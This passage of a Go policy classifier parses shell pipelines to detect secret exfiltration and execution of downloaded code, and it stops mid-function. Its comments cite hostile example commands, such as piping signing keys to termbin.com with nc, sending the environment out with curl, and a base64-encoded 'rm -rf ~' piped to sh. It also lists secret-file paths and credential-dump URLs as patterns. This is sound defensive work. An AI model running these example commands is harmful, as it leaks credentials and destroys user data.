package policy

import (
	"cmp"
	"encoding/base64"
	"encoding/hex"
	"path"
	"slices"
	"strings"
	"sync"

	"mvdan.cc/sh/v3/expand"
	"mvdan.cc/sh/v3/syntax"
)

// source describes what a command reads on stdin, for commands that run
// their input as code (sh, python, psql …) and for exfiltration.
type source struct {
	kind srcKind
	text string // srcText: the text; srcSecret: the secrets file, "" for the environment; srcPaths: the directory
	// pattern is the name find selects the paths by (srcPaths), "" for all.
	pattern string
	// every says the paths are all those under the directory (srcPaths):
	// find DIR with no test, git ls-files.
	every bool
	// aged says find chose the paths by age, size or owner, not by name
	// (srcPaths): find . -newer package.json lists the user's recent work.
	aged bool
	// values says which secret values the text carries where its kind
	// does not say so ("the value of $DB_PASSWORD"): a secret variable
	// echo, sed or jq put in, the environment envsubst or compose config
	// interpolates. Printed, that is no worse than what made it; put in
	// a file that a commit takes in, it reaches every clone (git.go).
	values string
	// named says a secrets file is one only by its name (srcSecret:
	// namedSecret, a service account's key, wp-config.php), which reading
	// alone does not hold: only sending it or filling a file with it does.
	named bool
	// file is the local file a srcFile is, when the command names it
	// (< conf/app.conf, cat conf/app.conf): what publishing it sends.
	file string
	// testContainers says the text lists containers a test framework
	// labelled as its own (testLabelled): docker ps -q --filter
	// label=org.testcontainers=true.
	testContainers bool
}

type srcKind int

const (
	srcNone     srcKind = iota // nothing known: the terminal or nothing
	srcText                    // known text: heredoc, here-string, echo
	srcDownload                // output of curl, wget …
	srcSecret                  // the environment or a secrets file
	srcFile                    // a local file (< script.sh, cat script.sh)
	srcPipe                    // output of some other command
	srcPaths                   // paths under a directory (find DIR …): text is DIR
)

// redirIn describes stdin given by a redirection, if r is one.
func (w *walker) redirIn(r *syntax.Redirect, sc *scope) source {
	switch r.Op {
	case syntax.Hdoc, syntax.DashHdoc:
		if r.Hdoc == nil {
			return source{kind: srcText}
		}
		return source{kind: srcText, text: wordSource(sc.src, r.Hdoc), values: hdocValues(r)}
	case syntax.WordHdoc:
		s, ok := w.c.literal(sc, r.Word)
		if !ok {
			if out := w.substOutput(r.Word, sc); out.kind == srcSecret { // gh gist create - <<< "$(curl -s localhost:8080/actuator/env)"
				return out
			}
			if v := secretIn(arg{src: wordSource(sc.src, r.Word)}); v != "" {
				return source{kind: srcPipe, values: "the value of " + v} // tee cfg <<< "password: $DB_PASSWORD"
			}
			return source{kind: srcPipe}
		}
		return source{kind: srcText, text: s}
	case syntax.RdrIn:
		if len(r.Word.Parts) != 1 {
		} else if ps, ok := r.Word.Parts[0].(*syntax.ProcSubst); ok && ps.Op == syntax.CmdIn && len(ps.Stmts) == 1 {
			return w.describe(ps.Stmts[0], sc, source{}) // xargs rm < <(find ~/x -type f): what the substitution prints
		}
		f, err := w.c.fields(sc, []*syntax.Word{r.Word})
		switch {
		case err != nil || len(f) != 1:
		case f[0].ok && isSecretPath(f[0].s), !f[0].ok && isSecretPath(f[0].src): // < /proc/$PPID/environ
			return source{kind: srcSecret, text: f[0].shown()}
		case f[0].ok && f[0].s == "/dev/null":
			return source{kind: srcText} // nothing
		case f[0].ok:
			if src, ok := w.c.written[w.c.resolve(sc, f[0]).path]; ok { // echo 'DROP …' > x.sql; mysql < x.sql
				return src
			}
			if p := w.c.tilde(f[0].s); namedSecret(p) { // nc termbin.com 9999 < keys/signing.pem
				return source{kind: srcSecret, text: p, named: true}
			}
			return source{kind: srcFile, file: f[0].s}
		}
		return source{kind: srcFile}
	}
	return source{}
}

// substOutput is what a word made of one command substitution
// ("$(curl -s localhost:8080/actuator/env | base64 -w0)") prints: its
// pipeline's last stage as describe tells it, each stage reading the one
// before. Any other word gives srcNone.
func (w *walker) substOutput(word *syntax.Word, sc *scope) source {
	if word == nil || len(word.Parts) != 1 {
		return source{}
	}
	part := word.Parts[0]
	if dq, ok := part.(*syntax.DblQuoted); ok && len(dq.Parts) == 1 {
		part = dq.Parts[0]
	}
	cs, ok := part.(*syntax.CmdSubst)
	if !ok || len(cs.Stmts) != 1 {
		return source{}
	}
	var stages []*syntax.Stmt
	var flat func(st *syntax.Stmt)
	flat = func(st *syntax.Stmt) {
		if b, ok := st.Cmd.(*syntax.BinaryCmd); ok && (b.Op == syntax.Pipe || b.Op == syntax.PipeAll) {
			flat(b.X)
			flat(b.Y)
			return
		}
		stages = append(stages, st)
	}
	flat(cs.Stmts[0])
	out := source{}
	for _, st := range stages {
		out = w.describe(st, sc, out)
	}
	return out
}

// taint records the variables an assignment fills with a secret source's
// output (x=$(curl -s localhost:8080/actuator/env)), for a sender of the
// variable to be judged as a sender of the secret (taintedRef).
func (w *walker) taint(name string, value *syntax.Word, sc *scope) {
	if value == nil || !holds(value, isSubst) {
		if w.c.secretVars[name] != "" {
			delete(w.c.secretVars, name) // x=done: no longer the secret
		}
		return
	}
	if out := w.substOutput(value, sc); out.kind == srcSecret && !out.named {
		if w.c.secretVars == nil {
			w.c.secretVars = map[string]string{}
		}
		what := out.text
		if what == "" {
			what = "the environment"
		}
		w.c.secretVars[name] = what
	}
}

// taintedRef says which secret a word sends through a variable that
// taint recorded ("t=$x": the answer of …), or "".
func (c *classifier) taintedRef(src string) string {
	if len(c.secretVars) == 0 || !strings.Contains(src, "$") {
		return ""
	}
	for name, what := range c.secretVars {
		for i := 0; i < len(src); i++ {
			j := strings.Index(src[i:], "$"+name)
			if j < 0 {
				j = strings.Index(src[i:], "${"+name)
				if j < 0 {
					break
				}
				j++
			}
			end := i + j + 1 + len(name)
			if end >= len(src) || !isNameByte(src[end]) {
				return "$" + name + ", " + what
			}
			i += j
		}
	}
	return ""
}

func isNameByte(b byte) bool {
	return b == '_' || b >= 'a' && b <= 'z' || b >= 'A' && b <= 'Z' || b >= '0' && b <= '9'
}

// passThrough are filters that, without file operands, pass their input's
// nature on: env | base64 | curl -d @- is still the environment.
var passThrough = map[string]bool{
	"cat": true, "base64": true, "base32": true, "gzip": true, "xz": true, "bzip2": true, "zstd": true,
	"xxd": true, "od": true, "tr": true, "sed": true, "awk": true, "sort": true, "uniq": true,
	"head": true, "tail": true, "tee": true, "grep": true, "cut": true, "rev": true, "openssl": true, "gpg": true,
	"jq": true, "yq": true, "gojq": true, "jaq": true, "fold": true, "fmt": true, "nl": true, "paste": true, "column": true,
	"expand": true, "iconv": true, "tac": true, "zcat": true, "gunzip": true, "brotli": true, "lz4": true,
}

// programFilters take their program as their first operand (sed 's/a/b/',
// jq -Rs .), reading their input from stdin when no file follows it: a
// later operand with a path's shape is one (an option's value, yq -o json,
// is taken for none).
var programFilters = map[string]bool{"sed": true, "awk": true, "jq": true, "yq": true, "gojq": true, "jaq": true}

// describe says what a pipeline stage writes to the next one; prev is what
// the stage itself reads.
func (w *walker) describe(st *syntax.Stmt, sc *scope, prev source) source {
	for _, r := range st.Redirs {
		if s := w.redirIn(r, sc); s.kind != srcNone { // tr … < /proc/1/environ | curl …
			prev = s
		}
		// 2>&1 and > file do not change what a stage is, but a stage whose
		// stdout is redirected away writes nothing to the pipe we know of.
		if r.Op == syntax.RdrOut || r.Op == syntax.AppOut {
			if r.N == nil || r.N.Value == "1" {
				return source{kind: srcPipe}
			}
		}
	}
	return w.output(st, sc, prev)
}

// output says what a statement writes to its stdout, wherever that goes,
// and which secret values that carries (valuesIn).
func (w *walker) output(st *syntax.Stmt, sc *scope, prev source) source {
	out := w.printed(st, sc, prev)
	if out.kind != srcSecret && out.values == "" {
		out.values = w.valuesIn(st, sc, prev)
	}
	return out
}

// printed says what a statement writes to its stdout, wherever that goes.
func (w *walker) printed(st *syntax.Stmt, sc *scope, prev source) source {
	if indirect(st) { // for v in $(compgen -v); do echo "$v=${!v}"; done: the values of variables
		return source{kind: srcSecret}
	}
	var group []*syntax.Stmt
	switch x := st.Cmd.(type) {
	case *syntax.Block: // { cat ~/.config/x/config.toml; ./x sync; } | gh issue create --body-file -
		group = x.Stmts
	case *syntax.Subshell:
		group = x.Stmts
	}
	if group != nil { // the group's output is each of its commands' in turn: the most telling of them
		var read source
		for _, inner := range group {
			out := w.describe(inner, sc, prev)
			if out.kind == srcSecret {
				return out
			}
			if out.file != "" && read.file == "" {
				read = out // { cat conf/app.conf; … }: the file it printed
			}
		}
		if read.file != "" {
			return read
		}
		return source{kind: srcPipe}
	}
	if d, ok := st.Cmd.(*syntax.DeclClause); ok && (d.Variant.Value == "export" || d.Variant.Value == "declare" || d.Variant.Value == "typeset") && environmentDecl(d) {
		return source{kind: srcSecret, text: envDump} // export -p | nc …: every variable with its value, as env prints them
	}
	ce, ok := st.Cmd.(*syntax.CallExpr)
	if !ok || len(ce.Args) == 0 {
		return source{kind: srcPipe}
	}
	args, err := w.c.fields(sc, ce.Args)
	if err != nil || len(args) == 0 || !args[0].ok {
		return source{kind: srcPipe}
	}
	all := args
	args = unwrapQuiet(args)
	if len(args) == 0 || !args[0].ok {
		return source{kind: srcPipe}
	}
	name := path.Base(args[0].s)
	if slices.ContainsFunc(all[:len(all)-len(args)], func(a arg) bool { // the wrappers unwrapQuiet took off
		return a.ok && (path.Base(a.s) == "npx" || path.Base(a.s) == "bunx" || path.Base(a.s) == "pnpx")
	}) {
		name = binOf(args[0].s) // npx netlify-cli env:list: netlify's
	}
	if (name == "docker" || name == "podman") && testLabelled(strs0(args[1:])) && !slices.ContainsFunc(ce.Assigns, func(a *syntax.Assign) bool {
		return a.Name != nil && (a.Name.Value == "DOCKER_HOST" || a.Name.Value == "DOCKER_CONTEXT")
	}) {
		return source{kind: srcPipe, testContainers: true} // docker ps -aq --filter label=org.testcontainers=true | xargs docker rm -f
	}
	if debugTools[name] && (mergesStderr(st) || w.allPiped[st]) {
		if why := tracesSecrets(name, args[1:], stmtEnv(ce, sc, all[:len(all)-len(args)])); why != "" {
			return source{kind: srcSecret, text: why, named: true} // TF_LOG=DEBUG terraform plan 2>&1 | tee plan.log
		}
	}
	if name == "find" && len(args) > 1 && args[1].ok && !strings.HasPrefix(args[1].s, "-") {
		pattern, every := "", true
		for i, a := range args {
			negated := i > 0 && args[i-1].ok && (args[i-1].s == "-not" || args[i-1].s == "!") // -not -name __init__.py picks the others
			if a.ok && (a.s == "-name" || a.s == "-iname") && i+1 < len(args) && args[i+1].ok && pattern == "" && !negated {
				pattern = args[i+1].s
			}
			every = every && !(a.ok && findTests[a.s]) // find src -type f: every file
		}
		for i, a := range args {
			negated := i > 0 && args[i-1].ok && (args[i-1].s == "-not" || args[i-1].s == "!")
			if a.ok && pathTests[a.s] && i+1 < len(args) && args[i+1].ok && !negated && pattern == "" {
				if e := pathEntries(under(args[1], true), "", args[i+1].s); e.ok && !strings.HasSuffix(e.s, "/*") {
					pattern = path.Base(e.s) // -path '*/migrations/*.py': *.py
				}
			}
		}
		return source{kind: srcPaths, text: args[1].s, pattern: pattern, every: every, aged: findsAged(args[1:])}
	}
	if dir, pattern, ok := gitListed(strs0(args)); ok { // git ls-files -m | xargs …: the tree's own files
		return source{kind: srcPaths, text: dir, pattern: pattern, every: pattern == ""}
	}
	if dir, pattern, ok := listedPaths(name, args[1:]); ok { // ls ~/scans/*.png | xargs …: the paths the glob matches
		return source{kind: srcPaths, text: dir, pattern: pattern}
	}
	if dirs := searchedTrees(name, args[1:]); len(dirs) > 0 && dirs[0].ok && listsFiles(name, args[1:]) { // grep -rl token ~/.config | xargs cat
		if w.c.listsStore(sc, name, args[1:], dirs[0]) {
			return source{kind: srcPaths, text: path.Join(dirs[0].s, ".git")} // grep -rl x . | xargs sed -i: .git's files are listed too
		}
		return source{kind: srcPaths, text: dirs[0].s}
	}
	if prev.kind == srcPaths && (isSecretPath(prev.text) || secretName(prev.pattern)) && readsListed(name, args[1:]) {
		// find ~ -name 'id_*' | tar -czf - -T -: the files' contents
		return source{kind: srcSecret, text: path.Join(prev.text, prev.pattern)}
	}
	if prev.kind == srcText {
		if out, ok := decode(name, strs0(args[1:]), prev.text); ok { // echo cm0gLXJmIH4= | base64 -d | sh
			return source{kind: srcText, text: out}
		}
	}
	if tree := archiveOf(w.c, sc, name, args[1:]); tree != "" && archiveTo(name, args[1:]) == "-" { // tar czf - -C ~ . | ssh …
		return source{kind: srcSecret, text: tree, named: strings.HasSuffix(tree, namedKey)}
	}
	if _, f := w.c.searchesProfile(sc, name, args[1:]); f != "" {
		return source{kind: srcSecret, text: f} // grep TOKEN ~/.bashrc | …: the lines, values and all
	}
	if prev.kind == srcSecret && (prev.text == envDump || assignsFile(prev.text)) && keepsNames(name, args[1:]) {
		return source{kind: srcPipe, text: name} // env | cut -d= -f1: the names, no value
	}
	if prev.kind == srcPaths && (name == "sort" || name == "uniq" || name == "tac" || name == "shuf" || name == "cat" || name == "head" || name == "tail") {
		if _, ops := opts(args[1:]); len(ops) == 0 || allNumbers(ops) { // find . -mtime -1 -print0 | sort -z | xargs -0 rm: the same paths
			return prev
		}
	}
	if name == "xargs" && (prev.kind == srcSecret || prev.kind == srcText) {
		if out, ok := w.xargsPrints(sc, args[1:], prev); ok {
			return out
		}
	}
	if prev.kind == srcSecret && prev.text == envDump && dropsSecretLines(name, args[1:]) {
		return source{kind: srcPipe, text: name} // env | grep -viE 'pass|secret|token|key': the lines no secret is named in
	}
	if passThrough[name] && (prev.kind == srcSecret || prev.kind == srcDownload || prev.kind == srcPipe) {
		if _, ops := opts(args[1:]); len(ops) == 0 || programFilters[name] && !slices.ContainsFunc(ops[min(1, len(ops)):], func(a arg) bool {
			return !a.ok || strings.Contains(a.s, "/") || len(path.Ext(a.s)) > 1 && path.Ext(a.s) != a.s
		}) || name == "sed" || name == "awk" || name == "grep" || name == "tr" || name == "tee" ||
			((name == "head" || name == "tail") && allNumbers(ops)) {
			return prev
		}
	}
	switch {
	case listsJobs(name, strs0(args[1:])):
		return source{kind: srcPipe, text: jobListing} // squeue -u $USER -h -o %i | xargs scancel
	case name == "jobs" && hasFlag(args[1:], "p", "") || name == "pgrep" && ownChildren(args[1:]):
		return source{kind: srcPipe, text: ownPids} // jobs -p | xargs kill
	case downloaders[name] && credentialsURL(args[1:]) != "":
		return source{kind: srcSecret, text: answerOf + credentialsURL(args[1:])} // Jenkins' /credentials/store/…, Vault's /v1/secret/…
	case downloaders[name]:
		return source{kind: srcDownload}
	case dumpsDatabase(name, args[1:]):
		return source{kind: srcSecret, text: dumpOf + name}
	case readsClipboard(name, args[1:]): // what was last copied: often a password or a token
		return source{kind: srcSecret}
	case madeKey(name, args[1:]) == "-": // openssl genrsa 2048 | …, wg genkey | tee …: a private key, new
		return source{kind: srcSecret, text: "a private key " + name + " made", named: true}
	case printsSecrets(name, args[1:]) != "":
		return source{kind: srcSecret, text: "the output of " + name}
	case name == "history":
		return source{kind: srcSecret}
	case name == "env" || name == "printenv" || (name == "set" && len(args) == 1) ||
		((name == "export" || name == "declare" || name == "typeset") && len(args) <= 2):
		return source{kind: srcSecret, text: envDump}
	case remoteEnvDump(name, args[1:]): // fly ssh console -C env > f, kubectl exec pod -- env | …: a server's variables, as env's
		return source{kind: srcSecret, text: envDump}
	case printsEnv(name, args[1:]): // python3 -c 'print(dict(os.environ))' | nc …: the values, as env's
		return source{kind: srcSecret, text: envDump}
	case (name == "echo" || name == "printf") && slices.ContainsFunc(args[1:], func(a arg) bool {
		return !a.ok && (secretSubst(a.src) || w.c.taintedRef(a.src) != "")
	}): // echo "$(curl -s localhost:8080/actuator/env)" | nc …, echo "$x" | nc …
		return source{kind: srcSecret, text: "the output of " + name}
	case name == "echo":
		vals, ok := strs(args[1:])
		if !ok {
			return source{kind: srcPipe}
		}
		for len(vals) > 0 && (vals[0] == "-n" || vals[0] == "-e" || vals[0] == "-E" || vals[0] == "-ne" || vals[0] == "-en") {
			vals = vals[1:]
		}
		return source{kind: srcText, text: strings.Join(vals, " ")}
	case name == "printf":
		vals, ok := strs(args[1:])
		if len(vals) > 1 && vals[0] == "--" { // printf -- '- hosts: …': the format follows
			vals = vals[1:]
		}
		if !ok || len(vals) == 0 || printfBomb.MatchString(vals[0]) {
			return source{kind: srcPipe}
		}
		s, _, err := expand.Format(w.c.expandConfig(sc), vals[0], vals[1:])
		if err != nil {
			return source{kind: srcPipe}
		}
		return source{kind: srcText, text: s}
	case name == "cat" || name == "base64" || name == "xxd" || name == "gzip" || name == "tar" || name == "zip" || name == "gpg" ||
		name == "xz" || name == "bzip2" || name == "zstd" || name == "openssl" || name == "head" || name == "tail" || name == "od":
		for _, a := range args[1:] {
			if a.ok && isSecretPath(a.s) && !publicKey(a.s) {
				return source{kind: srcSecret, text: a.s}
			}
			if a.ok && name != "openssl" && name != "gpg" && namedSecret(a.s) { // cat ~/.conan2/credentials.json >> docs/setup.md: the file's secrets, not its public half
				return source{kind: srcSecret, text: a.s, named: true}
			}
		}
		if name == "cat" {
			for _, r := range st.Redirs {
				if (r.Op == syntax.Hdoc || r.Op == syntax.DashHdoc) && r.Hdoc != nil {
					return source{kind: srcText, text: wordSource(sc.src, r.Hdoc), values: hdocValues(r)}
				}
			}
			if _, ops := opts(args[1:]); len(ops) == 1 && ops[0].ok {
				return source{kind: srcFile, file: ops[0].s} // cat conf/app.conf | gh gist create -
			}
			return source{kind: srcFile}
		}
	}
	return source{kind: srcPipe, text: name}
}

// listsStore reports whether grep's recursive search of dir goes into the
// repository's store: dir is the working tree's top, and no
// --exclude-dir leaves .git out. rg, ag, ack and git grep skip it.
func (c *classifier) listsStore(sc *scope, name string, args []arg, dir arg) bool {
	if name != "grep" && name != "egrep" && name != "fgrep" || c.resolve(sc, dir).path != c.project || !c.trustedProject() {
		return false
	}
	for i, a := range args {
		v, ok := strings.CutPrefix(a.s, "--exclude-dir=")
		if a.s == "--exclude-dir" && i+1 < len(args) {
			v, ok = args[i+1].s, true
		}
		if ok && (v == ".git" || strings.HasPrefix(v, ".") && strings.ContainsAny(v, "*?[{")) {
			return false // --exclude-dir=.git, --exclude-dir='.*'
		}
	}
	return true
}

// credentialsPath is an address's path that names the credentials it
// serves: /credentials/store/…, /v1/secret/data/app, /api/tokens.
var credentialsPath = lazyRE(`(?i)^https?://[^/\s]+(?:/[^?#\s]*)?/(?:credentials?|secrets?|tokens?|api[-_]?keys?|passwords?)(?:[/?#]|$)`)

// configDumpPath is an address's path whose answer is a running
// application's environment or configuration, secrets and all, as
// printenv's is: Spring Boot's actuator (env, configprops, heapdump),
// Go's expvar /debug/vars, phpinfo, Consul's key-value store, Nacos's and
// Spring Cloud Config's served configuration. The address may have no
// scheme, as curl and httpie allow (localhost:8080/actuator/env,
// :8080/env).
var configDumpPath = lazyRE(`(?i)^(?:https?://[^/\s]+|localhost(?::\d+)?|[\w-]*:\d+|[\w-]+(?:\.[\w-]+)+(?::\d+)?)(?:/[^?#\s]*)?/(?:actuator/(?:env|configprops|heapdump|threaddump)|env|configprops|heapdump|debug/vars|phpinfo(?:\.php)?|info\.php|v1/kv|nacos/v1/cs/configs)(?:[/?#]|$)`)

// credentialsURL is the first address among args whose path names
// credentials or whose answer is an application's environment, or "".
func credentialsURL(args []arg) string {
	for _, a := range args {
		if a.ok && (credentialsPath.MatchString(a.s) || strings.Contains(a.s, "/") && configDumpPath.MatchString(a.s)) {
			return a.s
		}
	}
	return ""
}

// indirect reports whether a statement expands a variable whose name it
// computes (${!v}): the value of whichever variable the name holds, any
// token in the environment. ${!prefix*} and ${!arr[@]} give names and
// keys, not values.
func indirect(st *syntax.Stmt) bool {
	found := false
	syntax.Walk(st, func(n syntax.Node) bool {
		if p, ok := n.(*syntax.ParamExp); ok && p.Excl && p.Names == 0 && p.Index == nil {
			found = true
		}
		return !found
	})
	return found
}

// archiveOf says which tree holding secrets an archiver packs whole: the
// home directory or the root (keys, tokens, every project's .env), or the
// working directory with its .env and .git, unless .env is left out; ""
// if none. Members are relative to tar's -C directory.
func archiveOf(c *classifier, sc *scope, name string, args []arg) string {
	tarLike := name == "tar" || name == "bsdtar" || name == "gtar"
	if !tarLike && name != "zip" && name != "7z" {
		return ""
	}
	dir := *sc // tar's -C: where the members after it are
	creates := !tarLike
	type member struct {
		a  arg
		sc *scope
	}
	var members []member
	for i := 0; i < len(args); i++ {
		a := args[i]
		switch {
		case !a.ok:
		case tarLike && (a.s == "-C" || a.s == "--directory") && i+1 < len(args):
			if t := c.resolve(&dir, args[i+1]); t.path != "" {
				dir.cwd = t.path
			}
			i++
		case strings.Contains(a.s, ".env") && (strings.HasPrefix(a.s, "--exclude") || i > 0 && (args[i-1].s == "-x" || args[i-1].s == "--exclude")):
			return "" // the secrets file is left out
		case tarLike && (a.s == "-c" || a.s == "--create" || i == 0 && !strings.HasPrefix(a.s, "--") && strings.Contains(a.s, "c") && strings.Trim(a.s, "-cvzjJpfa") == ""):
			creates = true
			if strings.HasSuffix(a.s, "f") && i+1 < len(args) {
				i++ // the archive
			}
		case tarLike && (a.s == "-f" || a.s == "--file") || strings.HasPrefix(a.s, "-") && !strings.HasPrefix(a.s, "--") && strings.HasSuffix(a.s, "f") && tarLike:
			if strings.Contains(a.s, "c") {
				creates = true
			}
			i++
		case strings.HasPrefix(a.s, "-"):
		default:
			in := dir
			members = append(members, member{a, &in})
		}
	}
	if !creates {
		return ""
	}
	if !tarLike && len(members) > 0 {
		members = members[1:] // zip ARCHIVE MEMBER…
	}
	for _, m := range members {
		p := c.resolve(m.sc, arg{s: c.tilde(m.a.s), ok: true, src: m.a.s}).path
		switch {
		case p == c.home || p == "/":
			return "an archive of " + c.show(target{path: p, src: m.a.s}) + ", keys and tokens included"
		case p == c.project || p != "" && isUnder(c.project, p):
			return "an archive of the working directory, its .env and .git included"
		case p != "" && (isSecretPath(p) || c.holdsSecrets(p)):
			return "an archive of " + c.show(target{path: p, src: m.a.s}) + secretTree
		}
	}
	for _, m := range members {
		if p := c.resolve(m.sc, arg{s: c.tilde(m.a.s), ok: true, src: m.a.s}).path; p != "" && namedSecret(p) {
			return "an archive of " + c.show(target{path: p, src: m.a.s}) + namedKey // tar czf /tmp/b.tgz certs/server-key.pem
		}
	}
	return ""
}

// namedKey ends archiveOf's answer for an archive of a file that is a key
// or credentials file by its name (namedSecret): making it reads nothing
// out, as reading such a file does not; sending it on sends the file.
const namedKey = ", a private key or credentials file"

// holdsSecrets reports whether p is a directory under the home directory
// that holds one of its secrets directories: ~/.config holds gh's,
// gcloud's and many other tools' tokens, ~/.config/gh its own.
func (c *classifier) holdsSecrets(p string) bool {
	if !isUnder(p, c.home) {
		return false
	}
	for _, d := range homeSecrets() {
		if d = path.Join(c.home, d); d == p || isUnder(d, p) {
			return true
		}
	}
	return false
}

// secretTree reports whether reading every file under p reads
// credentials: p is the home directory or the root, or a directory that
// is or holds a store of them (~/.config holds gh's and gcloud's,
// ~/.docker, /etc holds /etc/ssl/private).
func (c *classifier) secretTree(p string) bool {
	if p == "" {
		return false
	}
	if p == c.home || p == "/" || isSecretPath(p) || isSecretPath(p+"/") || c.holdsSecrets(p) {
		return true
	}
	for _, s := range secretPlaces {
		if strings.HasPrefix(s, "/etc/") || strings.HasPrefix(s, "/var/") || strings.HasPrefix(s, "/run/") {
			if d := strings.TrimSuffix(s, "/"); d == p || isUnder(d, p) {
				return true
			}
		}
	}
	return false
}

// homeSecrets are the secrets directories under the home directory, from
// homeSecretDirs and the dot directories among secretPlaces.
var homeSecrets = sync.OnceValue(func() []string {
	out := append([]string{".ssh", ".gnupg", ".aws", ".password-store"}, homeSecretDirs...)
	for _, s := range secretPlaces {
		if strings.HasPrefix(s, "/.") {
			out = append(out, strings.Trim(s, "/"))
		}
	}
	return out
})

// secretTree ends archiveOf's words for a directory of secrets.
const secretTree = ", which holds keys, passwords or session cookies"

// archiveTo is the file an archiver writes ("-" for stdout), or "".
func archiveTo(name string, args []arg) string {
	if name == "zip" || name == "7z" {
		_, ops := opts(args)
		if name == "7z" && len(ops) > 0 {
			ops = ops[1:] // 7z a ARCHIVE …
		}
		if len(ops) > 0 && ops[0].ok {
			return ops[0].s
		}
		return ""
	}
	for i, a := range args {
		if !a.ok || i+1 >= len(args) || !args[i+1].ok {
			continue
		}
		if a.s == "-f" || a.s == "--file" || !strings.HasPrefix(a.s, "--") && strings.HasSuffix(a.s, "f") && (i == 0 || strings.HasPrefix(a.s, "-")) {
			return args[i+1].s
		}
		if f, ok := strings.CutPrefix(a.s, "--file="); ok {
			return f
		}
	}
	return "-" // tar with no -f writes to stdout (or its tape): taken as stdout
}

// printfBomb matches a printf width or precision that is computed or too
// large to format statically (%*d, %99999999d).
var printfBomb = lazyRE(`%[-+ #0]*(\*|\d{4,})|\.(\*|\d{4,})`)

// downloaders fetch remote content to stdout.
var downloaders = map[string]bool{
	"curl": true, "wget": true, "fetch": true, "http": true, "https": true, "xh": true, "xhs": true, "aria2c": true,
	"w3m": true, "lynx": true, "links": true, "elinks": true, "lwp-request": true, "GET": true, "lwp-download": true,
}

// quietWrappers are wrappers unwrapQuiet strips: the options that take a
// value, and how many operands come before the command.
var quietWrappers = map[string]struct {
	withValue []string
	skip      int
}{
	"sudo":  {[]string{"-u", "-g", "-h", "-p", "-C", "-D", "-r", "-t", "-U", "-T"}, 0},
	"doas":  {[]string{"-u", "-C"}, 0},
	"nohup": {}, "time": {[]string{"-f", "-o"}, 0}, "command": {}, "builtin": {}, "exec": {[]string{"-a"}, 0},
	"stdbuf": {[]string{"-i", "-o", "-e"}, 0}, "unbuffer": {}, "setsid": {},
	"nice":     {[]string{"-n", "--adjustment"}, 0},
	"ionice":   {[]string{"-c", "-n"}, 0},
	"timeout":  {[]string{"-s", "--signal", "-k", "--kill-after"}, 1},
	"gtimeout": {[]string{"-s", "--signal", "-k", "--kill-after"}, 1},
	"npx":      {[]string{"-p", "--package", "-c", "--call"}, 0}, "bunx": {[]string{"-p", "--package"}, 0}, "pnpx": {[]string{"-p", "--package"}, 0},
}

// binOf is the command an npm package installs, by the package's name as
// npx is given it: netlify-cli is netlify, @railway/cli is railway,
// firebase-tools is firebase; any other word its base name.
func binOf(w string) string {
	if scope, ok := strings.CutSuffix(w, "/cli"); ok && strings.HasPrefix(scope, "@") && !strings.Contains(scope, "/") {
		return scope[1:]
	}
	name := path.Base(w)
	if v, _, ok := strings.Cut(name, "@"); ok && v != "" {
		name = v // netlify-cli@17
	}
	for _, suf := range []string{"-cli", "-tools"} {
		if b, ok := strings.CutSuffix(name, suf); ok && b != "" && !strings.Contains(w, "/") {
			return b
		}
	}
	return name
}

// unwrapQuiet strips the simplest wrappers (sudo, env, timeout …) without
// recording anything; used to describe a pipeline stage.
func unwrapQuiet(args []arg) []arg {
	for range maxUnwrap {
		if len(args) == 0 || !args[0].ok {
			return args
		}
		name := path.Base(args[0].s)
		if w, ok := quietWrappers[name]; ok {
			i := skipOpts(args, w.withValue...) + w.skip
			if i >= len(args) {
				return nil
			}
			args = args[i:]
			continue
		}
		if name != "env" {
			return args
		}
		i := 1
		for i < len(args) && args[i].ok && (strings.HasPrefix(args[i].s, "-") || strings.Contains(args[i].s, "=")) {
			i++
		}
		if i >= len(args) {
			return args[:1] // plain env prints the environment
		}
		args = args[i:]
	}
	return args
}

// signingKeystore reports whether a file's name is a keystore that signs
// releases (release.keystore, upload.jks, cert.p12, .pfx) or the file of
// its passwords (keystore.properties, Flutter's key.properties).
func signingKeystore(base string) bool {
	b := strings.ToLower(base)
	return strings.HasSuffix(b, ".keystore") || strings.HasSuffix(b, ".jks") || strings.HasSuffix(b, ".p12") || strings.HasSuffix(b, ".pfx") ||
		b == "keystore.properties" || b == "key.properties" || b == "signing.properties"
}

// privateKeyFile reports whether a file's name says it holds a private
// key: NAME.key, a PEM or DER file named for a key (server-key.pem,
// ota_signing_key.pem, privkey.pem, private.pem), Apple's .p8, PuTTY's
// .ppk. Not a public key or a certificate (pubkey.pem, cert.pem, ca.crt).
func privateKeyFile(base string) bool {
	b := strings.ToLower(base)
	ext := path.Ext(b)
	stem := strings.TrimSuffix(b, ext)
	if strings.Contains(stem, "pub") {
		return false
	}
	switch ext {
	case ".key", ".ppk", ".p8":
		return stem != ""
	case ".pem", ".der":
		return strings.Contains(stem, "key") || strings.Contains(stem, "priv")
	}
	return false
}

// privateKeyPath reports whether p names a private key: by its file's
// name (privateKeyFile), or a key's file kept in a directory of keys
// (keys/mcuboot-signing.pem, secrets/sa-pipeline.json, private/app.der).
// Not a public key or a certificate (keys/public.pem, keys/ca-cert.pem).
func privateKeyPath(p string) bool {
	base := strings.ToLower(path.Base(p))
	if privateKeyFile(base) {
		return true
	}
	ext := path.Ext(base)
	switch ext {
	case ".pem", ".der", ".json", ".jwk":
	default:
		return false
	}
	if stem := strings.TrimSuffix(base, ext); stem == "" || strings.Contains(stem, "pub") || strings.Contains(stem, "jwks") || certificateFile(base) || strings.Contains(stem, "cert") {
		return false
	}
	for _, d := range strings.Split(strings.ToLower(path.Dir(p)), "/") {
		switch d {
		case "keys", "key", "secrets", "secret", "private", "credentials", "creds", "signing":
			return true
		}
	}
	return false
}

// namedSecret reports whether p, by its name and wherever it lies, holds
// a secret: a secrets path (isSecretPath), or a private key
// (privateKeyPath) or a credentials file (credentialsName) that is not
// one made for the tests or an example (fixturePath): a working tree's
// signing keys, service-account keys and app configs with passwords.
func namedSecret(p string) bool {
	if isSecretPath(p) {
		return !publicKey(p)
	}
	return (privateKeyPath(p) || credentialsName(path.Base(p))) && !fixturePath(p)
}

// isSecretPath reports whether p names a file that usually holds secrets.
func isSecretPath(p string) bool {
	base := path.Base(p)
	if shareable(base) {
		return false
	}
	switch {
	case base == ".env" || strings.HasPrefix(base, ".env."),
		base == ".netrc", base == ".git-credentials", base == ".npmrc", base == ".pypirc",
		strings.HasPrefix(base, "id_rsa"), strings.HasPrefix(base, "id_ed25519"), strings.HasPrefix(base, "id_ecdsa"),
		base == "credentials" && strings.Contains(p, ".aws"), strings.HasSuffix(base, ".env") && base != ".env",
